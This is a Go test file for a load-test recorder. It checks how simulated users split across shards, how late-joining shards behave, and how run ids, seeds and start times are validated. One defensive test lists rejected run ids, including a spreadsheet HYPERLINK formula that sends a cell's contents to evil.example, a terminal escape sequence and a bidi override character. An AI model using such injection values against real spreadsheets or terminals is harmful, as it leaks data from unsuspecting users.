package record

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/llmrec/llmrec/schemas"
)

// TestGlobalUsersSplit: the shards' users are disjoint, cover the schedule,
// global user j is on shard j mod N, and startedBy counts the schedule's
// starts, also for a shape whose starts are not monotone in the spawn
// index (a step's spawning outlasts the step).
func TestGlobalUsersSplit(t *testing.T) {
	for _, s := range []Shape{
		{StepUsers: 4, StepTime: time.Second, MaxUsers: 10},
		{StepUsers: 6, StepTime: time.Second, MaxUsers: 18, SpawnRate: 4}, // step 1 spawns until 1.25 s
	} {
		var all []int
		for i := range 3 {
			g := newGlobalUsers(s, Sharding{Index: i, Count: 3})
			for _, j := range g.mine {
				if j%3 != i {
					t.Fatalf("%+v: global user %d is on shard %d", s, j, i)
				}
			}
			all = append(all, g.mine...)
		}
		slices.Sort(all)
		g := newGlobalUsers(s, Sharding{})
		planned := 0
		for i := range s.MaxUsers {
			if _, ok := s.UserStart(i); ok {
				planned++
			}
		}
		if len(all) != planned || len(g.mine) != planned || !slices.IsSorted(g.starts) {
			t.Fatalf("%+v: shards hold %d users, one recorder %d; want %d in start order", s, len(all), len(g.mine), planned)
		}
		for j := range all {
			if all[j] != j {
				t.Fatalf("%+v: the shards' users are %v, not 0..%d once each", s, all, planned-1)
			}
		}
		for _, el := range []time.Duration{0, 300 * time.Millisecond, time.Second, 1100 * time.Millisecond, 2 * time.Second, time.Hour} {
			want := 0
			for i := range s.MaxUsers {
				if at, ok := s.UserStart(i); ok && at <= el {
					want++
				}
			}
			if got := g.startedBy(el); got != want {
				t.Errorf("%+v: started by %v = %d, want %d", s, el, got, want)
			}
		}
	}
}

type shardRun struct {
	sum     *Summary
	rows    []schemas.Record
	notices []string
}

// runShards runs n shards of cfg at once in the bubble, sharing client.
func runShards(t *testing.T, cfg Config, n int, client Client) []shardRun {
	out := make([]shardRun, n)
	var wg sync.WaitGroup
	for i := range n {
		wg.Go(func() {
			c := cfg
			c.Shard.Index, c.Shard.Count = i, n
			c.Notice = func(m string) { out[i].notices = append(out[i].notices, m) }
			sink := &memSink{}
			sum, err := Run(context.Background(), c, client, sink)
			if err != nil {
				t.Error(err)
				return
			}
			out[i].sum, out[i].rows = sum, sink.rows
		})
	}
	wg.Wait()
	return out
}

// TestShardsAreTheOneRecorderLoad: three shards started together send, in
// union, the requests one recorder with the same flags sends (same users,
// same scheduled and send times), each row with the global user id and
// the global users count, and the shards agree on the run id and t0.
func TestShardsAreTheOneRecorderLoad(t *testing.T) {
	key := func(r schemas.Record) string {
		return fmt.Sprintf("%d@%d/%d", r.User, r.ScheduledAt.UnixNano(), r.Start.UnixNano())
	}
	var one, union []string
	synctest.Test(t, func(t *testing.T) {
		cfg := engineConfig()
		cfg.Shape = Shape{StepUsers: 3, StepTime: time.Second, MaxUsers: 9, SpawnRate: 6}
		start := time.Now().Add(1500 * time.Millisecond)
		cfg.Shard.StartAt = start
		sink := &memSink{}
		if _, err := Run(context.Background(), cfg, &fakeClient{delay: 30 * time.Millisecond}, sink); err != nil {
			t.Fatal(err)
		}
		for _, r := range sink.rows {
			one = append(one, key(r))
		}

		cfg.Shard.StartAt = time.Now().Add(2 * time.Second)
		shards := runShards(t, cfg, 3, &fakeClient{delay: 30 * time.Millisecond})
		id := shards[0].sum.Meta.RunID
		for i, s := range shards {
			m := s.sum.Meta
			if m.Shard != i || m.Shards != 3 || !m.StartedAt.Equal(cfg.Shard.StartAt) || m.RunID != id || m.JoinedAt != nil {
				t.Fatalf("shard %d footer: shard %d/%d, started %v (want %v), run %q (shard 0: %q), joined %v", i, m.Shard, m.Shards, m.StartedAt, cfg.Shard.StartAt, m.RunID, id, m.JoinedAt)
			}
			if s.sum.Users != 3 || s.sum.Planned != 9 {
				t.Errorf("shard %d ran %d of %d users; want 3 of 9", i, s.sum.Users, s.sum.Planned)
			}
			if len(s.notices) == 0 || !strings.Contains(s.notices[0], fmt.Sprintf("shard %d/3: waiting for start-at", i)) {
				t.Errorf("shard %d notices %q; want the wait for start-at", i, s.notices)
			}
			for k, r := range s.rows {
				if r.Shard != int32(i) || r.Seq != int64(k) || (r.User-1)%3 != int32(i) {
					t.Fatalf("shard %d row %d: shard %d seq %d user %d", i, k, r.Shard, r.Seq, r.User)
				}
				started := 0
				for j := range cfg.Shape.MaxUsers {
					if at, _ := cfg.Shape.UserStart(j); !m.StartedAt.Add(at).After(r.Start) {
						started++
					}
				}
				if int(r.Users) != started {
					t.Fatalf("shard %d row %d sent at +%v: users %d, the schedule had started %d", i, k, r.Start.Sub(m.StartedAt), r.Users, started)
				}
				r.ScheduledAt = r.ScheduledAt.Add(start.Sub(cfg.Shard.StartAt)) // the same clock as the single run
				r.Start = r.Start.Add(start.Sub(cfg.Shard.StartAt))
				union = append(union, key(r))
			}
		}
	})
	slices.Sort(one)
	slices.Sort(union)
	if len(one) < 50 || !slices.Equal(one, union) {
		t.Fatalf("one recorder sent %d requests, the three shards %d, not the same ones", len(one), len(union))
	}
}

// TestShardJoinsLate: a shard started after start-at joins the schedule in
// progress: the users whose start passed start at once, scheduled when it
// joined (not in the past), later ones on schedule; the footer and a
// notice say how late.
func TestShardJoinsLate(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cfg := engineConfig()
		cfg.Shape = Shape{StepUsers: 4, StepTime: time.Second, MaxUsers: 12}
		t0 := time.Now().Add(-1500 * time.Millisecond)
		cfg.Shard = Sharding{Index: 1, Count: 2, StartAt: t0}
		var notices []string
		cfg.Notice = func(m string) { notices = append(notices, m) }
		sink := &memSink{}
		sum, err := Run(context.Background(), cfg, &fakeClient{delay: 20 * time.Millisecond}, sink)
		if err != nil {
			t.Fatal(err)
		}
		m := sum.Meta
		joined := t0.Add(1500 * time.Millisecond)
		if !m.StartedAt.Equal(t0) || m.JoinedAt == nil || !m.JoinedAt.Equal(joined) {
			t.Fatalf("started %v joined %v; want %v and %v", m.StartedAt, m.JoinedAt, t0, joined)
		}
		if d := m.EndedAt.Sub(t0); d < cfg.Shape.Total() || d > cfg.Shape.Total()+time.Second {
			t.Errorf("ended %v after start-at; the schedule is %v from start-at", d, cfg.Shape.Total())
		}
		if len(notices) != 1 || !strings.Contains(notices[0], "shard 1/2 joined the schedule 1.5s late") ||
			!strings.HasPrefix(notices[0], "warning: ") || !strings.Contains(notices[0], "more than a step (1s): it joined in step 2") {
			t.Errorf("notices %q; want one warning that shard 1/2 joined 1.5s late, more than a step, in step 2", notices)
		}
		first := map[int32]schemas.Record{}
		for _, r := range sink.rows {
			if r.ScheduledAt.Before(joined) {
				t.Fatalf("row %+v scheduled before the shard joined", r)
			}
			if _, ok := first[r.User]; !ok {
				first[r.User] = r
			}
		}
		if len(first) != 6 {
			t.Fatalf("users %d sent; want the shard's 6", len(first))
		}
		for u, r := range first {
			at, _ := cfg.Shape.UserStart(int(u - 1))
			want := t0.Add(at)
			if want.Before(joined) {
				want = joined
			}
			if !r.ScheduledAt.Equal(want) {
				t.Errorf("user %d (start +%v): first request scheduled +%v, want +%v", u, at, r.ScheduledAt.Sub(t0), want.Sub(t0))
			}
		}
	})
}

// TestShardInterruptedWhileWaiting: canceling during the wait for
// start-at ends the run at once, interrupted, with no rows and a time
// axis that does not run backwards.
func TestShardInterruptedWhileWaiting(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cfg := engineConfig()
		cfg.Shard = Sharding{Index: 0, Count: 2, StartAt: time.Now().Add(time.Hour)}
		var waits int
		cfg.Progress = func(s Status) {
			if s.Phase == "waiting" && s.Wait > 0 {
				waits++
			}
		}
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
		defer cancel()
		sink := &memSink{}
		sum, err := Run(ctx, cfg, &fakeClient{delay: 20 * time.Millisecond}, sink)
		if err != nil {
			t.Fatal(err)
		}
		m := sum.Meta
		if m.EndReason != schemas.EndInterrupted || len(sink.rows) != 0 || m.EndedAt.Before(m.StartedAt) || waits < 3 {
			t.Fatalf("end %q, %d rows, started %v ended %v, %d waiting reports", m.EndReason, len(sink.rows), m.StartedAt, m.EndedAt, waits)
		}
	})
}

// TestShardStopsAlone: --stop-on-saturation in a shard stops that shard,
// and its end detail and a notice say the others go on.
func TestShardStopsAlone(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cfg := engineConfig()
		cfg.Shape = Shape{StepUsers: 6, StepTime: 1500 * time.Millisecond, MaxUsers: 60}
		cfg.BaselineUsers = 6
		cfg.StopOnSaturation = true
		cfg.WaitMin, cfg.WaitMax = 10*time.Millisecond, 30*time.Millisecond
		cfg.Shard = Sharding{Index: 1, Count: 2, StartAt: time.Now()}
		var notices []string
		cfg.Notice = func(m string) { notices = append(notices, m) }
		sum, err := Run(context.Background(), cfg, &fakeClient{delay: 50 * time.Millisecond, failOver: 3}, &memSink{})
		if err != nil {
			t.Fatal(err)
		}
		if sum.Meta.EndReason != schemas.EndSaturated || !strings.Contains(sum.Meta.EndDetail, "only shard 1/2 stopped, the other shards go on") {
			t.Fatalf("end %q (%s); want saturated, this shard alone", sum.Meta.EndReason, sum.Meta.EndDetail)
		}
		if len(notices) != 1 || !strings.Contains(notices[0], "only shard 1/2 stopped") {
			t.Errorf("notices %q", notices)
		}
	})
}

func TestShardValidate(t *testing.T) {
	now := time.Now()
	for _, tc := range []struct {
		s     Sharding
		field string
	}{
		{Sharding{Index: 3, Count: 3, StartAt: now}, "Shard.Index"},
		{Sharding{Index: -1, Count: 3, StartAt: now}, "Shard.Index"},
		{Sharding{Index: 1, Count: 0}, "Shard.Index"},
		{Sharding{Index: 0, Count: schemas.MaxShards + 1, StartAt: now}, "Shard.Index"},
		{Sharding{Index: 0, Count: 2000000000, StartAt: now}, "Shard.Index"},
		{Sharding{Index: schemas.MaxShards - 1, Count: schemas.MaxShards, StartAt: now}, ""},
		{Sharding{Index: 0, Count: 3}, "Shard.StartAt"},
		{Sharding{RunID: "a\nb"}, "Shard.RunID"},
		{Sharding{Index: 2, Count: 3, StartAt: now}, ""},
		{Sharding{Index: 0, Count: 1}, ""},
	} {
		cfg := engineConfig()
		cfg.Shard = tc.s
		err := cfg.Validate()
		var fe *FieldError
		if tc.field == "" {
			if err != nil {
				t.Errorf("%+v: %v", tc.s, err)
			}
			continue
		}
		if !errors.As(err, &fe) || fe.Field != tc.field {
			t.Errorf("%+v: %v; want a problem with %s", tc.s, err, tc.field)
		}
	}
}

// TestValidRunID: a run id is 1 to 128 letters, digits, '.', '_' and '-',
// starting with a letter or a digit; the ids the recorder makes itself
// (derived and random) are such ids. Nothing a spreadsheet runs as a
// formula, a terminal as an escape or a shell as an option passes.
func TestValidRunID(t *testing.T) {
	for _, id := range []string{"v2-soak", "model-v2-2026-12-01", "a", "0", "A.b_c-1", strings.Repeat("x", MaxRunIDLen),
		newRunID(), derivedRunID(&Config{Shard: Sharding{Count: 3, StartAt: time.Now()}}, "http://h:1")} {
		if !ValidRunID(id) {
			t.Errorf("ValidRunID(%q) = false", id)
		}
	}
	for _, id := range []string{"", `=HYPERLINK("http://evil.example/?"&A3,"open")`, "+1", "-x", "@SUM(1)", ".hidden", "_x",
		"a b", "a\tb", "a\x1b[2Jb", "a/b", "a;b", "a,b", "a'b", "é", "a\u202eb", strings.Repeat("x", MaxRunIDLen+1)} {
		if ValidRunID(id) {
			t.Errorf("ValidRunID(%q) = true", id)
		}
		cfg := engineConfig()
		cfg.Shard.RunID = id
		var fe *FieldError
		if err := cfg.Validate(); id != "" && (!errors.As(err, &fe) || fe.Field != "Shard.RunID") {
			t.Errorf("Validate with run id %q: %v", id, err)
		}
	}
}

// TestShardRunID: shards with the same flags derive the same id; another
// start, shape or target gives another; --run-id wins; an unsharded run
// without start-at gets a fresh one.
func TestShardRunID(t *testing.T) {
	at := time.Date(2026, 12, 1, 15, 0, 0, 0, time.UTC)
	id := func(f func(*Config)) string {
		cfg := engineConfig()
		cfg.Shard = Sharding{Index: 0, Count: 3, StartAt: at}
		f(&cfg)
		return newMeta(&cfg).RunID
	}
	base := id(func(*Config) {})
	if !strings.HasPrefix(base, "20261201T150000Z-") {
		t.Errorf("derived id %q; want it to start with the start time", base)
	}
	if got := id(func(c *Config) { c.Shard.Index = 2 }); got != base {
		t.Errorf("shard 2's id %q differs from shard 0's %q", got, base)
	}
	for name, f := range map[string]func(*Config){
		"start":  func(c *Config) { c.Shard.StartAt = at.Add(time.Second) },
		"shards": func(c *Config) { c.Shard.Count = 4 },
		"shape":  func(c *Config) { c.Shape.MaxUsers++ },
		"target": func(c *Config) { c.Target = "http://other:8000" },
	} {
		if got := id(f); got == base {
			t.Errorf("another %s gives the same id %q", name, got)
		}
	}
	open := func(rate float64) func(*Config) {
		return func(c *Config) {
			c.OpenLoop = OpenLoop{Kind: ArrivalPoisson, Rate: rate, StepTime: time.Second, Burstiness: 1}
		}
	}
	if a, b := id(open(10)), id(open(20)); a == b {
		t.Errorf("open loops at 10 and 20 requests/s derive the same id %q", a)
	}
	if got := id(func(c *Config) { c.Shard.RunID = "v2-soak" }); got != "v2-soak" {
		t.Errorf("--run-id v2-soak gave %q", got)
	}
	a, b := id(func(c *Config) { c.Shard = Sharding{} }), id(func(c *Config) { c.Shard = Sharding{} })
	if a == b {
		t.Errorf("two unsharded runs got the same id %q", a)
	}
}

// TestShardJoinsWithinAStep: a shard less than a step late gets the plain
// notice, not the warning about steps it missed.
func TestShardJoinsWithinAStep(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cfg := engineConfig()
		cfg.Shape = Shape{StepUsers: 4, StepTime: time.Second, MaxUsers: 12}
		cfg.Shard = Sharding{Index: 0, Count: 2, StartAt: time.Now().Add(-400 * time.Millisecond)}
		var notices []string
		cfg.Notice = func(m string) { notices = append(notices, m) }
		if _, err := Run(context.Background(), cfg, &fakeClient{delay: 20 * time.Millisecond}, &memSink{}); err != nil {
			t.Fatal(err)
		}
		if len(notices) != 1 || !strings.Contains(notices[0], "joined the schedule 400ms late") || strings.Contains(notices[0], "warning") {
			t.Errorf("notices %q; want one plain notice of a 400ms late join", notices)
		}
	})
}

// TestScheduleAlreadyOver: a start-at whose whole schedule has ended is
// refused before anything begins (the sink sees no Begin), as a problem of
// Shard.StartAt that says how far in the past it is; a schedule still in
// progress is joined.
func TestScheduleAlreadyOver(t *testing.T) {
	now := time.Date(2026, 12, 6, 20, 0, 0, 0, time.UTC)
	cfg := engineConfig()
	cfg.Shape = Shape{StepUsers: 30, StepTime: time.Minute, MaxUsers: 300} // 10 steps: 10 minutes
	for _, tc := range []struct {
		ago  time.Duration
		want string // "" when accepted
	}{
		{-time.Hour, ""},
		{0, ""},
		{9*time.Minute + 59*time.Second, ""},
		{10 * time.Minute, "is 10m0s in the past: the whole schedule (10m0s) ended at 2026-12-06T20:00:00Z"},
		{125 * time.Hour, "is 125h0m0s in the past"},
	} {
		cfg.Shard = Sharding{Index: 0, Count: 3, StartAt: now.Add(-tc.ago)}
		err := cfg.CheckStart(now)
		var fe *FieldError
		switch {
		case tc.want == "" && err != nil:
			t.Errorf("start %v ago: %v", tc.ago, err)
		case tc.want != "" && (!errors.As(err, &fe) || fe.Field != "Shard.StartAt" || !strings.Contains(fe.Problem, tc.want)):
			t.Errorf("start %v ago: %v; want a Shard.StartAt problem with %q", tc.ago, err, tc.want)
		}
	}
	synctest.Test(t, func(t *testing.T) {
		cfg := engineConfig() // 2 steps of 700 ms
		cfg.Shard = Sharding{Index: 1, Count: 2, StartAt: time.Now().Add(-time.Hour)}
		sink := &memSink{}
		sum, err := Run(context.Background(), cfg, &fakeClient{delay: 20 * time.Millisecond}, sink)
		var fe *FieldError
		if !errors.As(err, &fe) || fe.Field != "Shard.StartAt" || sum != nil || sink.begun.RunID != "" || sink.final != nil {
			t.Fatalf("Run an hour after a 1.4s schedule: %v, summary %v, begun %q; want a Shard.StartAt error and nothing begun", err, sum, sink.begun.RunID)
		}
	})
}

// TestShardedOpenLoopSharesASeed: the shards of an open loop given no
// --seed derive one arrival seed from the flags they share, so they draw
// one global sequence (and record the same seed); another start derives
// another; an unsharded run draws a random one.
func TestShardedOpenLoopSharesASeed(t *testing.T) {
	at := time.Date(2026, 12, 6, 20, 0, 0, 0, time.UTC)
	seed := func(shard Sharding) (s int64) {
		synctest.Test(t, func(t *testing.T) {
			cfg := openConfig(ArrivalPoisson, 20, 0, 0, time.Second)
			cfg.OpenLoop.Seed, cfg.Seed = 0, 0
			if !shard.StartAt.IsZero() {
				shard.StartAt = time.Now() // the fake clock's now, the same in every bubble
			}
			cfg.Shard = shard
			sink := &memSink{}
			if _, err := Run(context.Background(), cfg, &fakeClient{delay: 5 * time.Millisecond}, sink); err != nil {
				t.Fatal(err)
			}
			s = sink.final.Shape.Seed
		})
		return s
	}
	a, b := seed(Sharding{Index: 0, Count: 2, StartAt: at}), seed(Sharding{Index: 1, Count: 2, StartAt: at})
	if a == 0 || a != b {
		t.Errorf("shards 0 and 1 recorded seeds %d and %d; want one derived seed", a, b)
	}
	cfg := openConfig(ArrivalPoisson, 20, 0, 0, time.Second)
	cfg.Shard = Sharding{Index: 0, Count: 2, StartAt: at}
	other := cfg
	other.Shard.StartAt = at.Add(time.Second)
	if derivedSeed(&cfg) == derivedSeed(&other) {
		t.Error("another start-at derives the same seed")
	}
	if u, v := seed(Sharding{}), seed(Sharding{}); u == v {
		t.Errorf("two unsharded runs drew the same seed %d", u)
	}
}
